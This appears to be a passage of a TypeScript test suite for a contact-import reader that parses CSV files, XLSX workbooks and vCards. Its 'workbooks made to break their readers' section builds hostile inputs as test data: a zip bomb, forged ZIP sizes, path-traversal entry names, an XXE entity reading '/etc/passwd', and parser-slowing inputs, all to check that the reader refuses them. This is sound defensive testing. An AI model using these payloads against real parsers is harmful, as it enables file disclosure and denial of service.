      ['Ann', 'Write me'],
      ['Bob', 'bob+x@example.org'],
    ]);
  });

  test('the sheet with contacts is found, hidden ones last, and another can be chosen', async () => {
    const notes = row(1, 'What', 'When', 'Who', 'Why') + row(2, 'x', 'y', 'z', 'w').repeat(1);
    const contacts = row(1, 'Exported for the board') + row(3, 'First Name', 'Email', 'City', 'Phone') + row(4, 'Ann', 'a@example.org', 'Oslo', '1');
    const content = await workbook({ sheets: { Notes: notes, Old: contacts, Members: contacts }, states: { Old: 'veryHidden' } });
    const sheet = await readBytes(content);
    expect(sheet.facts).toMatchObject({
      sheet: 'Members',
      sheets: ['Notes', 'Old', 'Members'],
      headerRow: 3,
      header: ['First Name', 'Email', 'City', 'Phone'],
    });
    expect(sheet.rows).toEqual([{ rowNumber: 4, cells: ['Ann', 'a@example.org', 'Oslo', '1'] }]);
    expect((await readBytes(content, { sheet: 'Old' })).facts.sheet).toBe('Old');
    expect((await readBytes(content, { sheet: 'Notes', headerRow: 2 })).facts).toMatchObject({ header: ['x', 'y', 'z', 'w'] });
    expect(await refused(() => readBytes(content, { sheet: 'None' }))).toMatchObject({ code: 'NO_SUCH_SHEET' });
  });

  test('strict workbooks, and prefixes as writers choose them', async () => {
    const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
    const x = 'xmlns:x="http://purl.oclc.org/ooxml/spreadsheetml/main"';
    const relations = (inner: string) => `<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</p:Relationships>`;
    const content = await zipOf([
      ['_rels/.rels', relations(`<p:Relationship Id="a" Type="${strict}/officeDocument" Target="/Book/Main.xml"/>`)],
      ['Book/Main.xml', `<x:workbook ${x} xmlns:q="${strict}"><x:sheets><x:sheet name="S" sheetId="1" q:id="b"/></x:sheets></x:workbook>`],
      ['Book/_rels/Main.xml.rels', relations(`<p:Relationship Id="b" Type="${strict}/worksheet" Target="../Sheets/One.xml"/>`)],
      [
        'Sheets/One.xml',
        `\uFEFF<x:worksheet ${x}><x:sheetData><x:row r='1'><x:c r="A1" t = "inlineStr"><x:is><x:t>Name</x:t></x:is></x:c></x:row>` +
          '<!-- a comment --><x:row r="2"><x:c r="A2" t="str"><x:v>Ann</x:v></x:c></x:row></x:sheetData></x:worksheet>',
      ],
    ]);
    expect(await readBytes(content)).toMatchObject({ facts: { sheet: 'S', header: ['Name'] }, rows: [{ rowNumber: 2, cells: ['Ann'] }] });
  });

  test('what a cell may not hold is a problem of its row', async () => {
    const long = 'x'.repeat(1_048_576);
    const rows =
      header + row(2, 'A_x0007_nn') + row(3, 'Bob', 'b@example.org', long) + row(4, 'C\u0001id') + row(5, 'D\u0085ee') + row(6, 'E_xD800_') + row(7, 'Fay');
    const sheet = await readBytes(await workbook({ sheets: { S: rows } }));
    expect(problems(sheet)).toEqual([
      [2, 'CONTROL_CHARACTER', 'Name'],
      [3, 'CELL_TOO_LONG', 'Value'],
      [4, 'CONTROL_CHARACTER', 'Name'],
      [5, 'CONTROL_CHARACTER', 'Name'],
      [6, 'BROKEN_CHARACTER', 'Name'],
    ]);
    const shared = await readBytes(await workbook({ sheets: { S: `${header}<row r="2"><c t="s"><v>0</v></c></row>` }, strings: `<si><t>${long}</t></si>` }));
    expect(problems(shared)).toEqual([[2, 'CELL_TOO_LONG', 'Name']]);
  });

  test.for<[written: string, where: 'inline' | 'shared', code: string]>([
    ['A_x0007_nn', 'inline', 'CONTROL_CHARACTER'],
    ['E_xD800_', 'inline', 'BROKEN_CHARACTER'],
    ['&#1;', 'inline', 'CONTROL_CHARACTER'],
    ['&#xD800;', 'inline', 'BROKEN_CHARACTER'],
    ['&#1;', 'shared', 'CONTROL_CHARACTER'],
  ])('what a cell may not hold is noticed where it is the only one: %s, %s', async ([written, where, code]) => {
    const second = where === 'shared' ? '<row r="2"><c t="s"><v>0</v></c></row>' : row(2, written);
    const strings = where === 'shared' ? `<si><t>${written}</t></si>` : undefined;
    expect(problems(await readBytes(await workbook({ sheets: { S: header + second }, strings })))).toEqual([[2, code, 'Name']]);
  });

  test('so is what runs, links and formats of numbers put together', async () => {
    const problemsOf = async (parts: Parameters<typeof workbook>[0]) => problems(await readBytes(await workbook(parts)));
    const inline = (cell: string) => problemsOf({ sheets: { S: `${header}<row r="2">${cell}</row>` } });
    const runs = '<r><t>A_x00</t></r><r><t>07_b</t></r>';
    expect(await inline(`<c t="inlineStr"><is>${runs}</is></c>`)).toEqual([[2, 'CONTROL_CHARACTER', 'Name']]);
    expect(await problemsOf({ sheets: { S: `${header}<row r="2"><c t="s"><v>0</v></c></row>` }, strings: `<si>${runs}</si>` })).toEqual([
      [2, 'CONTROL_CHARACTER', 'Name'],
    ]);
    expect(await problemsOf({ sheets: { S: `${header}<row r="2"><c t="s"><v>0</v></c></row>` }, strings: '<si><t>A_xD800_</t></si>' })).toEqual([
      [2, 'BROKEN_CHARACTER', 'Name'],
    ]);
    const styles = '<numFmts><numFmt numFmtId="200" formatCode="00&#0;00"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>';
    expect(await problemsOf({ sheets: { S: `${header}<row r="2"><c s="0"><v>1234</v></c></row>` }, styles })).toEqual([[2, 'NUL_CHARACTER', 'Name']]);
    // A line feed that a workbook writes as nine characters is one.
    const lines = `<c t="inlineStr"><is><r><t>${'line_x000D_\n'.repeat(1_000)}</t></r><r><t>THE END</t></r></is></c>`;
    const sheet = await readBytes(await workbook({ sheets: { S: `${header}<row r="2">${lines}</row>` } }));
    expect(sheet.rows[0]!.cells[0]).toBe(`${'line\n'.repeat(1_000)}THE END`);
  });

  test.for(['A_x0|007_nn', 'A_x0007|_nn', 'A&|#1;nn', 'A&#|1;nn'])(
    'what a cell may not hold is noticed where a piece of the sheet ends within it: %s',
    async (written) => {
      const before = `<worksheet><sheetData>${header}`;
      const [start, end] = `${row(2, written)}</sheetData></worksheet>`.split('|') as [string, string];
      const sheet = before + ' '.repeat(65_536 - before.length - start.length) + start + end;
      const content = await workbook({ sheets: { S: '' }, parts: { 'xl/worksheets/sheet1.xml': sheet } });
      expect(problems(await readBytes(content))).toEqual([[2, 'CONTROL_CHARACTER', 'Name']]);
    },
  );

  test('the parts are read as another parser of XML reads them, however they are cut', async () => {
    const random = seeded(2);
    const name = () => ['a', 'x:b', 'row', 'c'][random(4)]!;
    const text = () => ['', 'x', ' > ', '&amp;', '&#65;é', '<![CDATA[<&]]>', '<!-- <c> -->', '<?pi <x> ?>', '🎉'][random(9)]!;
    const attribute = (index: number) => ` n${index}${random(2) ? '' : ' '}=${random(2) ? ' ' : ''}"${['', '1', '>', '&lt;', "'", '/'][random(6)]!}"`;
    const element = (depth: number): string => {
      const tag = name();
      const attributes = Array.from({ length: random(3) }, (_, index) => attribute(index)).join('');
      if (random(4) === 0) return `<${tag}${attributes}${random(2) ? ' ' : ''}/>`;
      const content = Array.from({ length: depth > 3 ? 0 : random(4) }, () => text() + element(depth + 1)).join('');
      return `<${tag}${attributes}>${content}${text()}</${tag}${random(4) ? '' : ' '}>`;
    };
    const local = (name: string) => name.slice(name.indexOf(':') + 1);
    for (let round = 0; round < 300; round++) {
      const document = `<?xml version="1.0"?>\n${element(0)}\n`;
      const expected: string[] = [];
      const parser = new SaxesParser();
      parser.on('opentag', ({ name, attributes }) => expected.push(`<${local(name)} ${attributes.n0 ?? ''} ${attributes.n1 ?? ''}>`));
      parser.on('text', (text) => expected.push(text));
      parser.on('cdata', (text) => expected.push(text));
      parser.on('closetag', ({ name }) => expected.push(`</${local(name)}>`));
      parser.write(document).close();
      const found: string[] = [];
      const bytes = Buffer.from(document);
      const pieces = (async function* () {
        for (let at = 0, size = 1 + random(9); at < bytes.length; at += size) yield bytes.subarray(at, at + size);
      })();
      const handler = {
        open: (name: string, attributes: { get(name: string): string | undefined }) =>
          void found.push(`<${name} ${attributes.get('n0') ?? ''} ${attributes.get('n1') ?? ''}>`),
        close: (name: string) => void found.push(`</${name}>`),
        text: (text: string) => void found.push(text),
      };
      for await (const _ of readXml(pieces, handler));
      expect(found.join('')).toBe(expected.join('').trim());
    }
  });
});

describe('workbooks made to break their readers', () => {
  const sheets = { S: row(1, 'Name', 'Email') + row(2, 'Ann', 'a@example.org') };
  const part = 'xl/worksheets/sheet1.xml';
  const codeOf = async (content: Buffer | Promise<Buffer>) => {
    const bytes = await content;
    return (await refused(() => readBytes(bytes))).code;
  };
  const sheetXml = (xml: string | Buffer) => workbook({ sheets, parts: { [part]: xml } });

  test('sizes that lie are found out', async () => {
    const honest = await workbook({ sheets });
    expect(await codeOf(patchZip(honest, part, ({ central }) => central.writeUInt32LE(central.readUInt32LE(24) + 1, 24)))).toBe('BROKEN_WORKBOOK');
    expect(await codeOf(patchZip(honest, part, ({ central }) => central.writeUInt32LE(central.readUInt32LE(24) - 1, 24)))).toBe('BROKEN_WORKBOOK');
    expect(await codeOf(patchZip(honest, part, ({ central }) => central.writeUInt32LE(central.readUInt32LE(20) + 1_000_000, 20)))).toBe('BROKEN_WORKBOOK');
    expect(await codeOf(patchZip(honest, part, ({ central }) => central.writeUInt32LE(0xffff_fff0, 24)))).toBe('WORKBOOK_TOO_LARGE');
  });

  test('a bomb that claims to be small does not go off', async () => {
    const bomb = await sheetXml(`<worksheet><sheetData>${' '.repeat(100_000_000)}</sheetData></worksheet>`);
    expect(await codeOf(bomb)).toBe('WORKBOOK_TOO_LARGE');
    expect(await codeOf(patchZip(bomb, part, ({ central }) => central.writeUInt32LE(10_000, 24)))).toBe('BROKEN_WORKBOOK');
  });

  test('what unpacks to more than may be is refused, in whatever part', async () => {
    const limits = { ...readerLimits, sheet: { ...sheetLimits, inflatedBytes: 100_000 } };
    const rows = Array.from({ length: 5_000 }, (_, index) => row(index + 2, 'Ann', `${index}@example.org`)).join('');
    const content = await workbook({ sheets: { S: row(1, 'Name', 'Email') + rows } });
    expect(await refused(() => readBytes(content, {}, limits))).toMatchObject({ code: 'WORKBOOK_TOO_LARGE' });
    const texts = { ...readerLimits, sheet: { ...sheetLimits, sharedTextBytes: 5_000_000 } };
    const strings = Array.from({ length: 100_000 }, (_, index) => `<si><t>${index} ${'x'.repeat(100)}</t></si>`).join('');
    const shared = await workbook({ sheets, strings });
    expect(await refused(() => readBytes(shared, {}, texts))).toMatchObject({ code: 'WORKBOOK_TOO_LARGE' });
  });

  test('two parts of one name, a locked part, a path out of the archive, a wrong checksum, an unknown method', async () => {
    const honest = await workbook({ sheets });
    expect(
      await codeOf(
        zipOf([
          ['xl/workbook.xml', '<a/>'],
          ['XL/Workbook.xml', '<b/>'],
        ]),
      ),
    ).toBe('BROKEN_WORKBOOK');
    expect(await codeOf(patchZip(honest, part, ({ central, local }) => (central.writeUInt16LE(1, 8), local.writeUInt16LE(1, 6))))).toBe('LOCKED_FILE');
    expect(await codeOf(Buffer.from(honest.toString('latin1').replaceAll(part, '../worksheets/sheet1.xml'.slice(0, part.length)), 'latin1'))).toBe(
      'BROKEN_WORKBOOK',
    );
    expect(await codeOf(Buffer.from(honest.toString('latin1').replaceAll(part, '/etc/worksheets/sheet1.x'.slice(0, part.length)), 'latin1'))).toBe(
      'BROKEN_WORKBOOK',
    );
    expect(await codeOf(patchZip(honest, part, ({ central }) => central.writeUInt32LE(central.readUInt32LE(16) ^ 1, 16)))).toBe('BROKEN_WORKBOOK');
    expect(await codeOf(patchZip(honest, part, ({ central, local }) => (central.writeUInt16LE(12, 10), local.writeUInt16LE(12, 8))))).toBe('BROKEN_WORKBOOK');
  });

  test('an archive that ends too early, at whatever place', async () => {
    const honest = await workbook({ sheets });
    for (const share of [0.1, 0.5, 0.9, 0.99]) expect(await codeOf(honest.subarray(0, Math.floor(honest.length * share)))).toBe('BROKEN_WORKBOOK');
  });

  test.for([
    ['a sheet that ends too early', '<worksheet><sheetData><row r="1"><c t="str"><v>Name</v></c></row>'],
    ['elements that are closed in the wrong order', '<worksheet><sheetData><row></sheetData></row></worksheet>'],
    ['an attribute without quotes', '<worksheet><sheetData><row r=1/></sheetData></worksheet>'],
    ['a reference to nothing', '<worksheet><sheetData><row r="1"><c t="str"><v>&nbsp;</v></c></row></sheetData></worksheet>'],
    ['two roots', '<worksheet/><worksheet/>'],
    ['no XML at all', 'Name,Email'],
    ['rows out of order', `<worksheet><sheetData>${row(2, 'Name')}${row(1, 'Ann')}</sheetData></worksheet>`],
    ['a row without a number', '<worksheet><sheetData><row r="x"/></sheetData></worksheet>'],
    ['a text that is not there', '<worksheet><sheetData><row r="1"><c t="s"><v>9</v></c></row></sheetData></worksheet>'],
    ['a text between two others', '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0.5</v></c></row></sheetData></worksheet>'],
    ['elements a hundred thousand deep', `<worksheet>${'<a>'.repeat(100_000)}`],
    ['a tag without an end', `<worksheet a="${'x'.repeat(5_000_000)}`],
    ['a comment without an end', `<worksheet><!--${'x'.repeat(5_000_000)}`],
  ] as const)('%s', async ([, xml]) => {
    expect(await codeOf(sheetXml(xml))).toBe('BROKEN_WORKBOOK');
  });

  test.for([
    ['in the sheet', part, '<worksheet>'],
    ['in the workbook', 'xl/workbook.xml', '<workbook>'],
    ['in the relations', '_rels/.rels', '<Relationships>'],
    ['behind a long comment', part, `<!--${'x'.repeat(100_000)}--><worksheet>`],
  ] as const)('a document type %s is refused, without reading to its end', async ([, name, root]) => {
    const doctype = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">';
    const xml = root.startsWith('<!--') ? root.replace('<worksheet>', `<!DOCTYPE x [${' '.repeat(1_000_000)}]><worksheet>`) : `${doctype}]>${root}&e;`;
    expect(await codeOf(workbook({ sheets, parts: { [name]: xml } }))).toBe('XML_ENTITIES');
  });

  test('a sheet whose only cell is the farthest corner', async () => {
    const corner = '<row r="1048576"><c r="XFD1048576" t="str"><v>x</v></c></row>';
    expect(await codeOf(workbook({ sheets: { S: corner } }))).toBe('NO_HEADER');
    expect(await refused(async () => readBytes(await workbook({ sheets: { S: row(1, ...Array.from({ length: 16_384 }, () => 'Name')) } })))).toMatchObject({
      code: 'TOO_MANY_COLUMNS',
    });
  });

  test('no sheet, empty sheets, and sheets that lie outside', async () => {
    expect(await codeOf(workbook({ sheets: {} }))).toBe('EMPTY_FILE');
    expect(await codeOf(workbook({ sheets: { S: '' } }))).toBe('EMPTY_FILE');
    const relations = '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>';
    expect(await codeOf(workbook({ sheets, parts: { 'xl/_rels/workbook.xml.rels': relations } }))).toBe('EMPTY_FILE');
  });

  test('formats and names that take long to look at', async () => {
    const codes = ['[', '&quot;', '0', '\\', '_'].map(
      (char, index) => `<numFmt numFmtId="${200 + index}" formatCode="${char.replaceAll('&quot;', '"').replace('"', '&quot;').repeat(100_000)}"/>`,
    );
    const styles = `<numFmts>${codes.join('')}</numFmts><cellXfs>${codes.map((_, index) => `<xf numFmtId="${200 + index}"/>`).join('')}</cellXfs>`;
    const names = ['@'.repeat(9_000), `${'a.'.repeat(4_500)}@`, `+${'1 '.repeat(4_500)}x`, 'Name'];
    const sheet = await readBytes(await workbook({ sheets: { S: row(1, ...names) + row(2, 'Ann', 'b', 'c', 'd') }, styles }));
    expect(sheet.rows).toHaveLength(1);
  });
});

describe('cards', () => {
  const card = (version: string, ...lines: string[]) => ['BEGIN:VCARD', `VERSION:${version}`, ...lines, 'END:VCARD', ''].join('\r\n');
  /** By the names of the columns, without those that are empty. */
  const named = ({ facts, rows }: WholeSheet) =>
    rows.map(({ cells }) => Object.fromEntries(cells.map((cell, index) => [facts.header[index]!, cell]).filter(([, cell]) => cell !== '')));

  test('version 2.1: quoted-printable over several lines, character sets, bare types, base64', async () => {
    const text = card(
      '2.1',
      'N;CHARSET=ISO-8859-1;ENCODING=QUOTED-PRINTABLE:M=FCller;J=F6rg',
      'NOTE;ENCODING=QUOTED-PRINTABLE:a long=20=',
      'note=0D=0Aof two lines',
      'TITLE;ENCODING=BASE64:',
      '  Q2hhaXI=',
      '',
      'CATEGORIES;CHARSET=windows-1252;ENCODING=QUOTED-PRINTABLE:Fünf=FCnf',
      'TEL;WORK;FAX:1',
      'TEL;CELL:2',
      'EMAIL;INTERNET;PREF:j@example.org',
      'ADR;HOME;QUOTED-PRINTABLE:;;Hauptstra=C3=9Fe 1;K=C3=B6ln;;50667;Deutschland',
      'ORG:Acme;Sales',
    );
    expect(named(await readBytes(text))).toEqual([
      {
        'First Name': 'Jörg',
        'Last Name': 'Müller',
        Notes: 'a long note\nof two lines',
        'Organization Title': 'Chair',
        Labels: 'Fünfünf',
        'Phone 1 - Label': 'Work Fax',
        'Phone 1 - Value': '1',
        'Phone 2 - Label': 'Mobile',
        'Phone 2 - Value': '2',
        'E-mail 1 - Value': 'j@example.org',
        'Address 1 - Label': 'Home',
        'Address 1 - Street': 'Hauptstraße 1',
        'Address 1 - City': 'Köln',
        'Address 1 - Postal Code': '50667',
        'Address 1 - Country': 'Deutschland',
        'Organization Name': 'Acme',
        'Organization Department': 'Sales',
      },
    ]);
  });

  test('version 3.0: folding, escapes, grouped labels, several of a kind', async () => {
    const text = card(
      '3.0',
      'N:O\\;Neil;Ann;Marie,Lou;Dr.;jun.',
      'FN:Ann O\\;Neil',
      'NICKNAME:Annie,Nan',
      'item1.EMAIL;TYPE=INTERNET:first@example.org',
      'item1.X-ABLabel:_$!<Other>!$_',
      'item2.EMAIL;type=pref:second@example.org',
      'item2.X-ABLabel:Boat house',
      'TEL;TYPE="home,voice":1',
      'NOTE:one\\ntwo\\, three \\\\ fo',
      ' ur',
      'CATEGORIES:Member,Board\\, old',
      'URL;TYPE=WORK:https\\://example.org/a?b=c;d',
      'BDAY;VALUE=date:19900131T120000Z',
      'PHOTO;ENCODING=b;TYPE=JPEG:QUJD',
      ' REVG',
      'UID:1234',
      'TITLE:Chair',
    );
    const sheet = await readBytes(text);
    expect(named(sheet)).toEqual([
      {
        'First Name': 'Ann',
        'Middle Name': 'Marie Lou',
        'Last Name': 'O;Neil',
        'Name Prefix': 'Dr.',
        'Name Suffix': 'jun.',
        Nickname: 'Annie, Nan',
        'E-mail 1 - Label': 'Boat house',
        'E-mail 1 - Value': 'second@example.org',
        'E-mail 2 - Label': 'Other',
        'E-mail 2 - Value': 'first@example.org',
        'Phone 1 - Label': 'Home',
        'Phone 1 - Value': '1',
        Notes: 'one\ntwo, three \\ four',
        Labels: 'Member ::: Board, old',
        'Website 1 - Label': 'Work',
        'Website 1 - Value': 'https://example.org/a?b=c;d',
        Birthday: '1990-01-31',
        'Organization Title': 'Chair',
      },
    ]);
    expect(sheet.rows[0]!.card).toContain('\r\nTITLE:Chair\r\nEND:VCARD\r\n');
    expect(sheet.rows[0]!.card).not.toMatch(/PHOTO|REVG/);
  });

  test('version 4.0: addresses as URIs, preferences, dates without a year', async () => {
    const text = card(
      '4.0',
      'FN:Ann Bell',
      'N:;;;;',
      'EMAIL;PREF=2:b@example.org',
      'EMAIL;PREF=1;TYPE=work:mailto:a@example.org',
      'TEL;VALUE=uri;TYPE="cell,voice":tel:+1-415-555-0100;ext=12',
      'BDAY:--1016',
      'ADR;GEO="geo:1;2:3";TYPE=home:PO 1;;Main St 1,Flat 2;Oslo;;0150;Norway',
    );
    expect(named(await readBytes(text))).toEqual([
      {
        'First Name': 'Ann Bell',
        'E-mail 1 - Label': 'Work',
        'E-mail 1 - Value': 'a@example.org',
        'E-mail 2 - Value': 'b@example.org',
        'Phone 1 - Label': 'Mobile',
        'Phone 1 - Value': '+1-415-555-0100 x12',
        Birthday: '--10-16',
        'Address 1 - Label': 'Home',
        'Address 1 - PO Box': 'PO 1',
        'Address 1 - Street': 'Main St 1, Flat 2',
        'Address 1 - City': 'Oslo',
        'Address 1 - Postal Code': '0150',
        'Address 1 - Country': 'Norway',
      },
    ]);
  });

  test('birthdays as products write them', async () => {
    const written = ['1990-01-31', '19900131', '--01-31', 'X:1604-01-31', '1990-01-31T00:00:00Z', 'circa 1990'];
    const lines = written.map((value) => card('3.0', 'FN:Ann', value.startsWith('X:') ? `BDAY;X-APPLE-OMIT-YEAR=1604:${value.slice(2)}` : `BDAY:${value}`));
    expect(named(await readBytes(lines.join(''))).map(({ Birthday }) => Birthday)).toEqual([
      '1990-01-31',
      '1990-01-31',
      '--01-31',
      '--01-31',
      '1990-01-31',
      'circa 1990',
    ]);
  });

  test('those beyond five stand in the last column of their kind', async () => {
    const [contact] = named(await readBytes(card('3.0', 'FN:Ann', ...[1, 2, 3, 4, 5, 6, 7].map((index) => `TEL;TYPE=HOME:${index}`))));
    expect(contact).toMatchObject({ 'Phone 4 - Value': '4', 'Phone 5 - Value': '5 ::: 6 ::: 7', 'Phone 5 - Label': 'Home ::: Home ::: Home' });
  });

  test('UTF-16, a byte order mark, and cards in Windows-1252', async () => {
    const text = card('3.0', 'FN:Jörg');
    for (const content of [Buffer.from(`\uFEFF${text}`), Buffer.from(`\uFEFF${text}`, 'utf16le'), Buffer.from(text, 'latin1')]) {
      expect(named(await readBytes(content))).toEqual([{ 'First Name': 'Jörg' }]);
    }
  });

  test('an indented line goes on with the one before it, also where it reads like the end of a card or the beginning of one', async () => {
    // At the very places where the writer folds.
    const note = `${'x'.repeat(70)}${['END:VCARD', 'BEGIN:VCARD', 'EMAIL:evil@example.org'].map((line) => line.padEnd(74)).join('')}END:VCARD`;
    for (const version of ['3.0', '4.0'] satisfies VCardVersion[]) {
      const text = vCard({ id: '01930000-0000-7000-8000-000000000001', name: 'Ann', firstName: 'Ann', notes: [note] }, version);
      for (const line of ['END:VCARD', 'BEGIN:VCARD', 'EMAIL:evil@example.org']) expect(text).toContain(`\r\n ${line}`);
      const sheet = await readBytes(text);
      expect(named(sheet)).toEqual([{ 'First Name': 'Ann', Notes: note }]);
      expect(sheet.rows[0]!.card).toBe(text);
    }
    // By a tab too, and within a picture, and a card within a card; a file of which every line is indented is one all the same.
    const folded = card('3.0', 'FN:Ann', 'NOTE:one', '\tEND:VCARD', 'PHOTO;ENCODING=b:QUJD', ' END:VCARD', 'TITLE:Chair');
    const agent = card('2.1', 'N:Smith', 'AGENT:', ...card('2.1', 'N:Other', 'NOTE:one', ' END:VCARD').trim().split('\r\n'), 'TITLE:Head');
    const indented = card('3.0', 'FN:Bob').replaceAll(/^(?=.)/gm, '  ');
    const cards = await readBytes(folded + agent + folded);
    expect(problems(cards)).toEqual([]);
    expect(named(cards)).toEqual([
      { 'First Name': 'Ann', Notes: 'oneEND:VCARD', 'Organization Title': 'Chair' },
      { 'Last Name': 'Smith', 'Organization Title': 'Head' },
      { 'First Name': 'Ann', Notes: 'oneEND:VCARD', 'Organization Title': 'Chair' },
    ]);
    expect((await readBytes(indented + indented)).rows).toHaveLength(2);
  });

  test('separators in a phone number are of it, unless it is an address with parameters', async () => {
    const value = '0711 1;2, 3';
    const own = vCard(
      { id: '01930000-0000-7000-8000-000000000001', name: 'Ann', firstName: 'Ann', contactPoints: [{ kind: 'PHONE', label: null, value }] },
      '3.0',
    );
    expect(own).toContain('TEL:0711 1\\;2\\, 3\r\n');
    const written = ['TEL;VALUE=uri:tel:+1-415;ext=5', 'TEL;VALUE=uri:tel:+1-415;phone-context=x', 'TEL:1\\;ext=5', 'TEL:tel:1\\;2;ext=5'];
    const sheet = await readBytes(own + written.map((line) => card('4.0', 'FN:Ann', line)).join(''));
    expect(named(sheet).map((contact) => contact['Phone 1 - Value'])).toEqual([value, '+1-415 x5', '+1-415', '1;ext=5', '1;2 x5']);
  });

  test('a name that stands for none is no first name', async () => {
    const names = ['—', 'ann@example.org', ' ann@example.org ', 'Acme', 'Ann — Bell', 'ann at example.org'];
    const sheet = await readBytes(names.map((name) => card('3.0', `FN:${name}`, 'N:;;;;', 'ORG:Acme', 'EMAIL:ann@example.org')).join(''));
    expect(named(sheet).map((contact) => contact['First Name'])).toEqual([undefined, undefined, undefined, undefined, 'Ann — Bell', 'ann at example.org']);
    const own = vCard({ id: '01930000-0000-7000-8000-000000000001', name: '—' }, '4.0');
    expect(named(await readBytes(own))).toEqual([{}]);
  });

  test('a card that can’t be used is a problem, is given back as it is, and the next goes on', async () => {
    const good = card('3.0', 'FN:Good');
    const bad = [
      ['UNKNOWN_VERSION', card('9.9', 'FN:Ann')],
      ['BROKEN_CARD', 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:No end\r\n'],
      ['BROKEN_CARD', card('3.0', 'FN:Ann', 'no property')],
      ['BROKEN_CARD', 'VERSION:3.0\r\nFN:No begin\r\nEND:VCARD\r\n'],
      ['UNKNOWN_ENCODING', card('2.1', 'N;CHARSET=X-NONE;ENCODING=QUOTED-PRINTABLE:=41')],
      ['CONTROL_CHARACTER', card('3.0', 'FN:A\u0007nn')],
      ['NUL_CHARACTER', card('3.0', 'FN:A\0nn')],
      ['CELL_TOO_LONG', card('3.0', 'FN:Ann', `NOTE:${'x'.repeat(20_000)}`)],
    ] as const;
    const sheet = await readBytes(good + bad.map(([, text]) => text + good).join(''));
    expect(problems(sheet).map(([number, code]) => [number, code])).toEqual(bad.map(([code], index) => [3 + 2 * index, code]));
    expect(sheet.rows).toHaveLength(1 + 2 * bad.length);
    expect(sheet.rows.filter(({ problem }) => problem).map(({ card }) => card)).toEqual(bad.map(([, text]) => text));
  });

  test('pictures of megabytes are passed over, and text of megabytes is a problem', async () => {
    const picture = 'QUJD'.repeat(1_000_000);
    const folded = picture.replace(/.{76}/g, '$&\r\n ');
    const text =
      card('3.0', 'FN:One', `PHOTO;ENCODING=b:${picture}`) +
      card('3.0', 'FN:Two', `item1.LOGO;ENCODING=b:${folded}`, 'TITLE:Chair') +
      card('3.0', 'FN:Long', `NOTE:${'x'.repeat(3_000_000)}`) +
      card('2.1', 'N:Agent;Smith', 'AGENT:', ...card('2.1', 'N:Other').trim().split('\r\n'), 'TITLE:Head');
    const sheet = await readBytes(text);
    expect(problems(sheet)).toEqual([[4, 'CARD_TOO_LONG', undefined]]);
    expect(named(sheet)).toEqual([
      { 'First Name': 'One' },
      { 'First Name': 'Two', 'Organization Title': 'Chair' },
      {},
      { 'First Name': 'Smith', 'Last Name': 'Agent', 'Organization Title': 'Head' },
    ]);
    expect(JSON.stringify(sheet.rows).length).toBeLessThan(10_000);
  });

  test('lines that take long to look at', async () => {
    const spaces = ' '.repeat(200_000);
    const quotes = '"'.repeat(200_000);
    const text = [`X${spaces}x`, `TEL;${spaces}x:1`, `TEL;${quotes}:1`, `X;${';'.repeat(200_000)}:1`, `N:${';'.repeat(200_000)}`, `VERSION:3.0${spaces}x`];
    const begun = performance.now();
    const sheet = await readBytes(text.map((line) => card('3.0', 'FN:Ann', line)).join(''));
    expect(sheet.rows).toHaveLength(text.length);
    expect(performance.now() - begun).toBeLessThan(2_000 + startMs);
  });
});

describe('the process that reads', () => {
  const rows = (count: number) => people + Array.from({ length: count }, (_, index) => `Ann,Bell,a${index}@example.org\n`).join('');
  const path = join(folder, 'many-rows.csv');

  test('hands on the first rows alone when they are all that is wanted', async () => {
    await writeFile(path, rows(200_000));
    const reading = await readInChild({ path, mode: 'rows', firstRows: 700 });
    const found: SheetRow[] = [];
    for await (const batch of reading.batches) found.push(...rowsOf(batch));
    expect(found.map(({ rowNumber }) => rowNumber)).toEqual(Array.from({ length: 700 }, (_, index) => index + 2));
  });

  test('reads one thing after another, whatever stands in a request, and nothing after what was left half read', async () => {
    await writeFile(path, rows(20_000));
    await using reader = startReader();
    const first = await reader.read({ path, mode: 'rows', firstRows: 150 });
    const sizes: number[] = [];
    for await (const batch of first.batches) sizes.push(batch.rows);
    expect(sizes).toEqual([100, 50]);
    const mapping = [{ index: 0, header: 'Na\u2028me\u2029', target: { field: 'FIRST_NAME' }, confidence: 1 }];
    const settings = { country: null, decimal: null, currency: 'USD', dateOrder: null };
    const second = await reader.read({ path, mode: 'stage', task: { mapping, settings, known: { customFields: [], plans: [] }, customFields: [], plans: [] } });
    let all = 0;
    for await (const batch of second.batches) all += batch.rows;
    expect([all, second.result]).toMatchObject([20_000, { mapping: [{ header: 'Na\u2028me\u2029' }] }]);
    const third = await reader.read({ path, mode: 'rows' });
    for await (const _ of third.batches) break;
    expect(await refused(() => reader.read({ path, mode: 'rows' }))).toMatchObject({ code: 'READER_FAILED' });
  });

  test('hands on little at once where rows are long', async () => {
    const long = 'x'.repeat(10_000);
    await writeFile(path, `${people}${`${long},${long},${long}\n`.repeat(1_000)}`);
    const sheet = await read(path, {}, { ...readerLimits, memoryBytes: 160 * 1_048_576 });
    expect(sheet.rows).toHaveLength(1_000);
    expect(problems(sheet)).toEqual([]);
  });

  test('hands on few rows at once where they are wanted whole and have many cells, also empty ones', async () => {
    const wide = `Ann${','.repeat(100_000)}y\n`;
    const content = people + 'Ann,Bell,a@example.org\n'.repeat(30) + wide.repeat(200);
    for (const wholeRows of [false, true]) {
      const { rows } = await readBytes(content, {}, { ...readerLimits, sheet: { ...sheetLimits, wholeRows } });
      const widths = rows.filter(({ problem }) => problem?.code === 'TOO_MANY_CELLS').map(({ cells }) => cells.length);
      expect(widths).toEqual(Array.from({ length: 200 }, () => (wholeRows ? 100_001 : 3)));
    }
  });

  test('keeps the cells of a workbook beyond all columns where rows are wanted whole, as far as a spreadsheet has any', async () => {
    const cell = (place: string, text: string) => `<c r="${place}" t="inlineStr"><is><t>${text}</t></is></c>`;
    const far = `<row r="2">${cell('A2', 'Ann')}${cell('ZZ2', 'far')}${cell('ZZZZZZ2', 'nowhere')}</row>`;
    const content = await workbook({ sheets: { S: row(1, 'Name', 'Email', 'City') + far } });
    for (const wholeRows of [false, true]) {
      const sheet = await readBytes(content, {}, { ...readerLimits, sheet: { ...sheetLimits, wholeRows } });
